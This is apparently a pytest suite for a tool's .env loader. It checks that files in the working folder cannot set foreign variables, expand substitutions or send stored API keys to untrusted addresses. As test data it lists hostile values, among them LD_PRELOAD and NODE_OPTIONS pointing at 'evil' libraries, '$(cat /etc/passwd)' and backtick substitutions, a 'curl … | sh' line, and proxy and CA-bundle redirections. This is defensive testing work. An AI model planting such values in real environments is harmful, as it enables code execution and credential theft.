"""A `.env` of somebody else: it runs nothing, changes no environment, and is sent no key of the person who is there."""

from __future__ import annotations

import grp
import os
import pwd
import socket
import warnings
from types import SimpleNamespace

import pytest
from command_line import no_program

from newsqa import environment, private_files
from newsqa.environment import NAMES, from_dotenv, read_dotenv, variable
from newsqa.errors import ModelError, SettingsError, SettingsWarning
from newsqa.models.providers import key_for
from newsqa.private_files import MOST_BYTES
from newsqa.settings import Settings, data_folder, secret_values
from newsqa.trust import CREDENTIALS, find_untrusted, refuse_untrusted, trust, trust_everything

CANARY = "sk-canary-of-the-environment"
OTHER = "another-secret-canary"
KEYS = {
    "OPENAI_BASE_URL": "OPENAI_API_KEY",
    "ANTHROPIC_BASE_URL": "ANTHROPIC_API_KEY",
    "OLLAMA_HOST": "OLLAMA_API_KEY",
}
ELSEWHERE = "http://models.example:9"


@pytest.fixture
def folder(tmp_path, monkeypatch):
    """An empty working folder of a person whose environment holds keys, with a data folder beside it."""
    for name in {*NAMES, *(name for names in CREDENTIALS.values() for name in names)}:
        monkeypatch.delenv(name, raising=False)
    for name in (*KEYS.values(), "SLACK_BOT_TOKEN", "DISCORD_BOT_TOKEN", "CHROMA_CLIENT_AUTH_CREDENTIALS"):
        monkeypatch.setenv(name, CANARY)
    monkeypatch.setenv("OTHER_SECRET", OTHER)
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    yield work
    trust_everything(False)
    monkeypatch.chdir("/")
    environment.load()  # nothing of this folder is left for the next test


def setting(name, value="/tmp/x"):
    return name, f"{name}={value}\n".encode(), None


FOREIGN = [
    setting("LD_PRELOAD", "./evil.so"), setting("LD_LIBRARY_PATH", "."), setting("LD_AUDIT", "./evil.so"),
    setting("DYLD_INSERT_LIBRARIES", "./evil.dylib"), setting("PYTHONPATH", "."), setting("PYTHONSTARTUP", "./evil.py"),
    setting("PYTHONHOME", "."), setting("PYTHONWARNINGS", "error"), setting("PAGER", "./evil"),
    setting("MANPAGER", "./evil"), setting("LESS", "+!./evil"), setting("LESSOPEN", "|./evil %s"),
    setting("LESSCLOSE", "./evil"), setting("LESSKEYIN", "./evil"), setting("EDITOR", "./evil"),
    setting("VISUAL", "./evil"), setting("BROWSER", "./evil"), setting("BASH_ENV", "./evil"), setting("ENV", "./evil"),
    setting("PATH", "."), setting("HOME", "."), setting("XDG_DATA_HOME", "."), setting("TMPDIR", "."),
    setting("TERMINFO", "."), setting("HTTP_PROXY", ELSEWHERE), setting("HTTPS_PROXY", ELSEWHERE),
    setting("https_proxy", ELSEWHERE), setting("ALL_PROXY", ELSEWHERE), setting("NO_PROXY", "*"),
    setting("OPENAI_PROXY", ELSEWHERE), setting("ANTHROPIC_PROXY", ELSEWHERE), setting("SSL_CERT_FILE", "./evil.pem"),
    setting("SSL_CERT_DIR", "."), setting("REQUESTS_CA_BUNDLE", "./evil.pem"), setting("CURL_CA_BUNDLE", "./evil.pem"),
    setting("SSLKEYLOGFILE", "./keys"), setting("NODE_OPTIONS", "--require ./evil.js"),
    setting("HF_ENDPOINT", ELSEWHERE), setting("HF_HOME", "."), setting("HF_TOKEN", "hf_x"),
    setting("LANGSMITH_ENDPOINT", ELSEWHERE), setting("LANGSMITH_TRACING", "true"),
    setting("LANGSMITH_API_KEY", "lsv2_x"), setting("LANGSMITH_GATEWAY", ELSEWHERE),
    setting("LANGCHAIN_ENDPOINT", ELSEWHERE), setting("LANGCHAIN_TRACING_V2", "true"),
    setting("OPENAI_API_BASE", ELSEWHERE), setting("OPENAI_CUSTOM_HEADERS", "x: y"), setting("OPENAI_LOG", "debug"),
    setting("ANTHROPIC_API_URL", ELSEWHERE), setting("ANTHROPIC_CONFIG_DIR", "."),
    setting("AZURE_OPENAI_ENDPOINT", ELSEWHERE), setting("AWS_ENDPOINT_URL", ELSEWHERE),
    setting("GOOGLE_APPLICATION_CREDENTIALS", "./evil.json"), setting("CHROMA_CLIENT_AUTH_PROVIDER", "evil.Provider"),
    setting("CHROMA_SERVER_HTTP_PORT", "no number"), setting("OTEL_EXPORTER_OTLP_ENDPOINT", ELSEWHERE),
    setting("openai_base_url", ELSEWHERE), setting("newsqa_model", "openai:x"), setting("GIT_SSH_COMMAND", "./evil"),
    ("an export of a foreign name", b"export LD_PRELOAD=./evil.so\n", None),
    ("a foreign name in a value", b'NEWSQA_MODEL="extractive\nLD_PRELOAD=./evil.so"\n', SettingsWarning),
]  # fmt: skip

LITERAL = [
    ("braces", "${OTHER_SECRET}"),
    ("braces with a default", "${OTHER_SECRET:-x}"),
    ("a dollar", "$OTHER_SECRET"),
    ("a command", "$(cat /etc/passwd)"),
    ("backticks", "`cat /etc/passwd`"),
    ("a path", "/v1/${HOME}/${OPENAI_API_KEY}"),
]

MALFORMED = [
    ("huge", b"NEWSQA_THREADS=3\n#" + b"x" * MOST_BYTES, SettingsWarning),
    ("NUL", b"NEWSQA_THREADS=3\nOPENAI_BASE_URL=http://models.example\0\n", SettingsWarning),
    ("binary", bytes(range(256)) * 8, SettingsWarning),
    ("not UTF-8", b"NEWSQA_THREADS=3\nNEWSQA_MODEL=caf\xe9\n", SettingsWarning),
    ("UTF-16", "NEWSQA_THREADS=3\n".encode("utf-16"), SettingsWarning),
    ("an escape", b"NEWSQA_MODEL=\x1b]0;owned\x07\n", SettingsWarning),
    ("an escape in quotes", b'NEWSQA_MODEL="a\\nb"\n', SettingsWarning),
    ("a header in an address", b'OPENAI_BASE_URL="http://models.example\\r\\nX: y"\n', SettingsWarning),
    ("a quote never closed", b'OPENAI_BASE_URL="http://models.example\nLD_PRELOAD=./evil.so\n', None),
    ("no assignments", b"curl http://models.example | sh\n", None),
    ("empty", b"", None),
    ("only a name", b"OPENAI_BASE_URL\n", None),
    ("an empty value", b"OPENAI_BASE_URL=\n", None),
]


@pytest.mark.parametrize(
    ("content", "warned"), [case[1:] for case in FOREIGN + MALFORMED], ids=[case[0] for case in FOREIGN + MALFORMED]
)
def test_nothing_is_taken_from_a_hostile_file(folder, monkeypatch, content, warned):
    (folder / ".env").write_bytes(content)
    before = dict(os.environ)
    with no_program(monkeypatch), warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        assert Settings.load() == Settings()
    assert [one.category for one in caught] == ([warned] if warned else [])
    assert all(str(folder / ".env") in str(one.message) and "ignored" in str(one.message) for one in caught)
    assert os.environ == before
    for address, key in KEYS.items():
        assert not variable(address)
        assert key_for(key, address) == CANARY  # to the provider's own address


@pytest.mark.parametrize("value", [value for _, value in LITERAL], ids=[name for name, _ in LITERAL])
@pytest.mark.parametrize("quote", ["", '"', "'"], ids=["bare", "double", "single"])
def test_values_are_taken_literally(folder, monkeypatch, value, quote):
    (folder / ".env").write_text(
        f"OPENAI_BASE_URL={quote}{ELSEWHERE}/{value}{quote}\nNEWSQA_MODEL={quote}{value}{quote}\n"
    )
    with no_program(monkeypatch):
        assert Settings.load().model == value
    assert variable("OPENAI_BASE_URL") == f"{ELSEWHERE}/{value}"
    with pytest.raises(ModelError, match=r"models\.example"):
        key_for("OPENAI_API_KEY", "OPENAI_BASE_URL")


def test_the_last_of_two_lines_counts_and_export_and_line_ends_are_known(folder):
    (folder / ".env").write_bytes(b"\xef\xbb\xbfNEWSQA_THREADS=3\r\nexport NEWSQA_THREADS=4\r\n# a comment\r\n")
    assert Settings.load().threads == 4


def a_link(place):
    (place.parent / "other").write_text("NEWSQA_THREADS=3\n")
    place.symlink_to(place.parent / "other")


def a_fifo(place):
    os.mkfifo(place)


def a_folder(place):
    place.mkdir()


def a_socket(place):
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(str(place))


@pytest.mark.parametrize("make", [a_link, a_fifo, a_folder, a_socket])
def test_what_is_no_file_of_its_own_is_ignored_and_blocks_nothing(folder, monkeypatch, make):
    monkeypatch.chdir(folder)
    make((folder / ".env").relative_to(folder) if make is a_socket else folder / ".env")
    with pytest.warns(SettingsWarning, match="is ignored"):
        assert Settings.load() == Settings()


@pytest.mark.parametrize("mode", [0o666, 0o602, 0o777, 0o664, 0o620])
@pytest.mark.parametrize("where", ["file", "folder"])
def test_what_others_may_write_is_ignored(folder, monkeypatch, mode, where):
    monkeypatch.setattr(private_files, "_own_group", lambda *_: False)
    file = folder / ".env"
    file.write_text("NEWSQA_THREADS=3\n")
    file.chmod(0o600)
    (file if where == "file" else folder).chmod(mode | 0o100)
    with pytest.warns(SettingsWarning, match=r"written by others .*chmod go-w"):
        assert Settings.load().threads == Settings().threads
    (file if where == "file" else folder).chmod(0o700)
    assert Settings.load().threads == 3


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file to somebody else")
@pytest.mark.parametrize("where", ["file", "folder"])
def test_what_belongs_to_somebody_else_is_ignored_by_root_too(folder, where):
    (folder / ".env").write_text("NEWSQA_THREADS=3\n")
    os.chown(folder / ".env" if where == "file" else folder, 12345, -1)
    with pytest.warns(SettingsWarning, match="belongs to somebody else"):
        assert Settings.load().threads == Settings().threads


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file to another group")
def test_root_shares_its_group(folder):
    (folder / ".env").write_text("NEWSQA_THREADS=3\n")
    (folder / ".env").chmod(0o660)
    with pytest.warns(SettingsWarning, match="written by others"):
        Settings.load()


@pytest.mark.parametrize(
    ("members", "others", "read"),
    [([], [], True), (["me"], [], True), (["you"], [], False), ([], ["you"], False)],
    ids=["nobody listed", "only the user", "somebody listed", "the first group of somebody"],
)
def test_a_group_of_the_user_alone_is_nobody_else(folder, monkeypatch, members, others, read):
    me = SimpleNamespace(pw_name="me", pw_gid=4711)
    monkeypatch.setattr(os, "geteuid", lambda: 4711)
    monkeypatch.setattr(pwd, "getpwuid", lambda _: me)
    monkeypatch.setattr(pwd, "getpwall", lambda: [me, *(SimpleNamespace(pw_name=name, pw_gid=4711) for name in others)])
    monkeypatch.setattr(grp, "getgrgid", lambda _: SimpleNamespace(gr_mem=members))
    found = os.open(folder, os.O_RDONLY)
    assert private_files._own_group(4711, found) is read
    os.close(found)


def test_no_folder_above_is_looked_into(folder, monkeypatch):
    (folder / ".env").write_text("NEWSQA_THREADS=3\n")
    (folder / "below").mkdir()
    monkeypatch.chdir(folder / "below")
    assert Settings.load().threads == Settings().threads
    assert read_dotenv(folder).values == {"NEWSQA_THREADS": "3"}


def test_a_working_folder_that_is_gone_is_no_failure(folder, monkeypatch):
    gone = folder / "gone"
    gone.mkdir()
    monkeypatch.chdir(gone)
    gone.rmdir()
    assert Settings.load() == Settings()


def test_a_key_in_the_file_is_used_and_kept_out_of_what_is_shown(folder, monkeypatch):
    monkeypatch.delenv("OPENAI_API_KEY")
    (folder / ".env").write_text(f"OPENAI_API_KEY=sk-of-the-file\nOPENAI_BASE_URL={ELSEWHERE}\n")
    Settings.load()
    assert key_for("OPENAI_API_KEY", "OPENAI_BASE_URL") == "sk-of-the-file"
    assert "sk-of-the-file" in secret_values()
    assert "OPENAI_API_KEY" not in os.environ


def test_an_address_of_the_environment_gets_the_key_and_wins(folder, monkeypatch):
    monkeypatch.setenv("OPENAI_BASE_URL", "http://mine.example")
    (folder / ".env").write_text(f"OPENAI_BASE_URL={ELSEWHERE}\n")
    Settings.load()
    assert variable("OPENAI_BASE_URL") == "http://mine.example"
    assert key_for("OPENAI_API_KEY", "OPENAI_BASE_URL") == CANARY


@pytest.mark.parametrize("address", KEYS)
def test_a_key_of_the_environment_goes_to_an_address_of_the_file_only_where_a_person_agreed(folder, address):
    (folder / ".env").write_text(f"{address}={ELSEWHERE}\n")
    Settings.load()
    with pytest.raises(ModelError, match=KEYS[address]) as refused:
        key_for(KEYS[address], address)
    assert "--trust-env" in refused.value.hint
    assert CANARY not in str(refused.value)
    trust_everything(True)
    assert key_for(KEYS[address], address) == CANARY
    trust_everything(False)
    trust(find_untrusted(address))
    assert key_for(KEYS[address], address) == CANARY


@pytest.mark.parametrize("address", KEYS)
@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "[::1]"])
def test_a_server_on_this_machine_gets_no_key(folder, address, host):
    (folder / ".env").write_text(f"{address}=http://{host}:9/v1\n")
    Settings.load()
    assert key_for(KEYS[address], address) == ""


def test_headers_of_the_environment_are_sent_nowhere_either(folder, monkeypatch):
    monkeypatch.setenv("ANTHROPIC_CUSTOM_HEADERS", f"X-Key: {CANARY}")
    (folder / ".env").write_text("ANTHROPIC_BASE_URL=http://127.0.0.1:9\n")
    Settings.load()
    with pytest.raises(ModelError, match="ANTHROPIC_CUSTOM_HEADERS"):
        key_for("ANTHROPIC_API_KEY", "ANTHROPIC_BASE_URL")


@pytest.mark.parametrize("address", [name for name in CREDENTIALS if name.startswith("NEWSQA_")])
def test_tokens_and_credentials_are_kept_from_addresses_of_the_file(folder, address):
    (folder / ".env").write_text(f"{address}=http://127.0.0.1:9/api/v10\n")
    Settings.load()
    with pytest.raises(SettingsError, match=address) as refused:
        refuse_untrusted(address)
    assert "--trust-env" in refused.value.hint


def test_a_kept_yes_is_for_one_folder_and_one_address_and_its_owner(folder, monkeypatch):
    (folder / ".env").write_text(f"OPENAI_BASE_URL={ELSEWHERE}/v1\nNEWSQA_SESSIONS={folder}\n")
    Settings.load()
    trust(find_untrusted("OPENAI_BASE_URL"))
    kept = data_folder() / "trusted.json"
    assert kept.stat().st_mode & 0o777 == 0o600
    assert CANARY not in kept.read_text()
    assert find_untrusted("OPENAI_BASE_URL") is None
    for other in ("https://models.example:9", "http://models.example:8", "http://models.example.evil:9"):
        (folder / ".env").write_text(f"OPENAI_BASE_URL={other}/v1\n")
        Settings.load()
        assert find_untrusted("OPENAI_BASE_URL")
    (folder / "other").mkdir()
    (folder / "other" / ".env").write_text(f"OPENAI_BASE_URL={ELSEWHERE}/v1\n")
    monkeypatch.chdir(folder / "other")
    Settings.load()
    assert find_untrusted("OPENAI_BASE_URL")
    kept.write_text("[1, {}, null]")
    assert find_untrusted("OPENAI_BASE_URL")
    assert from_dotenv("OPENAI_BASE_URL")
